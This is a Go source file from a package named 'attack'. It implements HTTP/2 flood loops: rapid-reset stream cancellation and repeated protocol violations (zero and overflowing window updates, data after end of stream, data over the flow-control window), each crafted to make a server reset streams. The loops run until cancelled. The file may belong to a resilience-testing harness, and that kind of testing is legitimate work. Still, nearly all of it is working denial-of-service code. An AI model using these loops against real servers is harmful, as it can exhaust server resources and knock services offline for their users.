package attack

import (
	"context"

	"golang.org/x/net/http2"
)

// rapidReset opens calls and cancels each at once.
func rapidReset(ctx context.Context, c *client) error {
	block := c.header(issueToken)
	for ctx.Err() == nil {
		id, err := c.begin(block, message)
		if err != nil {
			return err
		}
		if err := c.frames.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return ctx.Err()
}

// rapidResetComplete sends whole calls and cancels each at once.
func rapidResetComplete(ctx context.Context, c *client) error {
	block := c.header(issueToken)
	for ctx.Err() == nil {
		if err := c.call(block); err != nil {
			return err
		}
		if err := c.frames.WriteRSTStream(c.next-2, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return ctx.Err()
}

// madeToReset opens calls, in each of which an offence follows that the server
// must answer with a reset.
func madeToReset(offend func(*client, []byte) error) func(context.Context, *client) error {
	return func(ctx context.Context, c *client) error {
		block := c.header(issueToken)
		for ctx.Err() == nil {
			if err := offend(c, block); err != nil {
				return err
			}
		}
		return ctx.Err()
	}
}

func windowUpdateZero(c *client, block []byte) error {
	id, err := c.begin(block, message)
	if err != nil {
		return err
	}
	return c.frames.WriteWindowUpdate(id, 0)
}

// windowOverflow gives a stream more room than HTTP/2 has numbers for.
func windowOverflow(c *client, block []byte) error {
	id, err := c.begin(block, message)
	if err != nil {
		return err
	}
	return c.frames.WriteWindowUpdate(id, 1<<31-1)
}

func dataAfterEnd(c *client, block []byte) error {
	id, err := c.begin(block, ended)
	if err != nil {
		return err
	}
	return c.frames.WriteData(id, false, nil)
}

// dataOverWindow sends more of a message than the stream has room for.
func dataOverWindow(c *client, block []byte) error {
	id, err := c.begin(block, message)
	if err != nil {
		return err
	}
	body := prefixed(messageSize, messageSize)
	for range 1 + initialWindow/messageSize {
		if err := c.data(id, body, false); err != nil {
			return err
		}
	}
	return c.data(id, body[:10], false)
}
